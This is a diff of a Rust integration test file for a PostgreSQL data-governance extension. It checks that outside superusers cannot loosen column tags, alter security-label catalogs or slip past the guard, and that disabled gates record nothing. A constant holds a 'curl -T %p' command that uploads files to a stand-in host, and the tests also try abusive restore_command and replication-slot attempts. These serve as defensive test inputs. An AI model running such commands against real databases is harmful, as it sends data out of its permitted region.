@@ -1,6 +1,7 @@
-//! The settings gate, by every way in which a setting can be set. One node, known by its unix socket.
+//! The settings gate, by every way in which a setting can be set; what else nobody outside changes of what the guard goes by;
+//! and gates that are off. One node, known by its unix socket.
 
-use integration::{Cluster, Result, Sql, Stop, wait_until};
+use integration::{Cluster, Output, Result, Sql, Stop, wait_until};
 
 /// What an outsider would want, and each of the settings that it could be given to.
 const COMMAND: &str = "curl -T %p https://eu.example/";
@@ -182,5 +183,196 @@ fn no_way_to_set_a_setting_leads_past_the_gate() -> Result<()> {
         )?,
         "log_destination,log_directory,log_filename,primary_conninfo,restore_command,ssl_passphrase_command"
     );
+    Ok(())
+}
+
+const RULES: &str = "region cn\nregion eu\nlocal postgres\n";
+
+/// A node with a tagged table, and a superuser who is not known to be inside.
+fn tagged(name: &str) -> Result<Cluster> {
+    let node = Cluster::builder(name)
+        .preload("pg_custodian")
+        .conf("custodian.region = 'cn'")
+        .conf("custodian.disposal = 'off'")
+        .file("custodian_regions.conf", RULES)
+        .start()?;
+    node.exec(
+        "CREATE ROLE away LOGIN SUPERUSER; CREATE EXTENSION pg_custodian;
+         CREATE TABLE customer (id int PRIMARY KEY, email text, country text NOT NULL DEFAULT 'eu', note text);
+         INSERT INTO customer VALUES (1, 'canary-4711', 'eu', 'canary-4711');
+         SELECT custodian.define_purpose('shop.orders', 'contract', '1 year');
+         SELECT custodian.define_purpose('shop.letters', 'contract', '1 year');
+         SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}');
+         SELECT custodian.clear_column('customer', c) FROM unnest('{id,country}'::text[]) c;
+         CREATE PUBLICATION inside FOR TABLE customer",
+    )?;
+    node.alter_system("custodian.enforce", "on")?;
+    Ok(node)
+}
+
+/// Fails unless a client was told once, in one error with what to do.
+#[track_caller]
+fn assert_refused_once(output: &Output, part: &str) {
+    let said = output.all();
+    assert!(!output.success() && said.contains(part), "{part}: {said}");
+    for (word, times) in [("ERROR:", 1), ("DETAIL:", 1), ("HINT:", 1), ("WARNING:", 0)] {
+        assert_eq!(said.matches(word).count(), times, "{word} {said}");
+    }
+    assert!(!said.contains("canary"), "{said}");
+}
+
+#[test]
+fn nobody_outside_opens_a_column_by_its_tag_or_past_it_not_even_a_superuser() -> Result<()> {
+    let node = tagged("opening")?;
+    let away = |sql: &str| node.psql_as("away", "postgres", sql);
+    let labels = "SELECT count(*) || ' ' || md5(string_agg(objoid || ' ' || objsubid || ' ' || label, ',' ORDER BY objoid, objsubid)) FROM pg_seclabel";
+    let before = node.text(labels)?;
+    let tag = r#"{"category":"user.contact.email","sensitivity":"personal","purposes":["shop.orders"],"residency":["cn","eu"]}"#;
+    let by_labels = format!("SECURITY LABEL FOR custodian ON COLUMN customer.email IS '{tag}'");
+    let first = by_labels.replace("email IS", "note IS");
+    let loosening = "loosening the tag of";
+    for (sql, part) in [
+        (
+            "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn,eu}')",
+            loosening,
+        ),
+        (
+            "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders,shop.letters}', residency => '{cn}')",
+            loosening,
+        ),
+        (
+            "SELECT custodian.clear_column('customer', 'email')",
+            loosening,
+        ),
+        (
+            "SELECT custodian.clear_column('customer', 'note')",
+            loosening,
+        ),
+        (
+            "SELECT custodian.untag_column('customer', 'email')",
+            loosening,
+        ),
+        (
+            "SELECT custodian.tag_table('customer', residency_column => 'country')",
+            loosening,
+        ),
+        (&by_labels, loosening),
+        (
+            "SECURITY LABEL FOR custodian ON COLUMN customer.email IS NULL",
+            loosening,
+        ),
+        // Who somebody became counts for nothing: the session is where it was.
+        (
+            "SET SESSION AUTHORIZATION postgres; SELECT custodian.clear_column('customer', 'email')",
+            loosening,
+        ),
+        (&first, "saying from"),
+        // Past the functions.
+        (
+            "UPDATE pg_seclabel SET label = '{\"not_personal\":true}' WHERE provider = 'custodian'",
+            "writing to \"pg_catalog.pg_seclabel\"",
+        ),
+        ("DELETE FROM pg_seclabel", "writing to \"pg_catalog.pg_seclabel\""),
+        (
+            "INSERT INTO pg_shseclabel SELECT 0, 0, 'custodian', ''",
+            "writing to \"pg_catalog.pg_shseclabel\"",
+        ),
+        (
+            "UPDATE custodian.purpose SET required = false",
+            "writing to \"custodian.purpose\"",
+        ),
+    ] {
+        assert_refused_once(&away(sql)?, part);
+        assert_eq!(node.text(labels)?, before, "{sql}");
+        assert!(!away("SELECT email FROM customer")?.all().contains("canary"));
+    }
+    // What closes, or says when data goes, can be done from anywhere: the functions write for whom they let.
+    for sql in [
+        "SELECT custodian.tag_column('customer', 'note', 'user.content', '{shop.orders}')",
+        "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}', on_expiry => 'set_null')",
+        "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}')",
+        "SELECT custodian.tag_table('customer', subject_kind => 'customer', subject_key => '{id}')",
+    ] {
+        away(sql)?.ok()?;
+    }
+    assert!(!away("SELECT note FROM customer")?.all().contains("canary"));
+    // From inside all of it is a steward's. In warn it passes, and is on record.
+    node.exec(&by_labels)?;
+    node.alter_system("custodian.enforce", "warn")?;
+    away("SELECT custodian.untag_column('customer', 'email')")?.ok()?;
+    assert_eq!(
+        node.text(
+            "SELECT outcome, role FROM custodian.guard_events
+             WHERE gate = 'access' AND object = 'public.customer.email' AND outcome = 'warned' AND reason LIKE 'It could let%'"
+        )?,
+        "warned|away"
+    );
+    Ok(())
+}
+
+#[test]
+fn a_gate_that_is_off_lets_pass_what_it_refused_and_records_nothing() -> Result<()> {
+    let node = tagged("off")?;
+    let sql = |role: &'static str, sql: &'static str| {
+        move |node: &Cluster| node.psql_as(role, "postgres", sql)
+    };
+    let walsender = |command: &'static str| {
+        move |node: &Cluster| {
+            node.program("psql")?
+                .role("away")
+                .args([
+                    "-X",
+                    "-d",
+                    "dbname=postgres replication=database",
+                    "-c",
+                    command,
+                ])
+                .run()
+        }
+    };
+    type Attempt<'a> = Box<dyn Fn(&Cluster) -> Result<Output> + 'a>;
+    let attempts: [(&str, Attempt); 5] = [
+        (
+            "access",
+            Box::new(sql("away", "SELECT email FROM customer")),
+        ),
+        (
+            "ddl",
+            Box::new(sql("postgres", "CREATE PUBLICATION every FOR ALL TABLES")),
+        ),
+        (
+            "settings",
+            Box::new(sql(
+                "postgres",
+                "ALTER SYSTEM SET restore_command = 'cp /eu/%f %p'",
+            )),
+        ),
+        ("login", Box::new(walsender("IDENTIFY_SYSTEM"))),
+        // With the gate on logins off, since that comes first.
+        (
+            "replication",
+            Box::new(walsender(
+                "CREATE_REPLICATION_SLOT away TEMPORARY LOGICAL pgoutput",
+            )),
+        ),
+    ];
+    let recorded = "SELECT coalesce(sum(count), 0) FROM custodian.guard_events";
+    for (gate, attempt) in &attempts {
+        let output = attempt(&node)?;
+        assert!(!output.success(), "{gate}: {output}");
+        let one = output.all().matches("ERROR:").count() + output.all().matches("FATAL:").count();
+        assert_eq!(one, 1, "{gate}: {output}");
+        let before = node.text(recorded)?;
+        assert_eq!(
+            node.text(&format!(
+                "SELECT count(*) > 0 FROM custodian.guard_events WHERE gate = '{gate}' AND outcome = 'refused'"
+            ))?,
+            "t",
+            "{gate}"
+        );
+        node.alter_system(&format!("custodian.enforce_{gate}"), "off")?;
+        attempt(&node)?.ok()?;
+        assert_eq!(node.text(recorded)?, before, "{gate}");
+    }
     Ok(())
 }
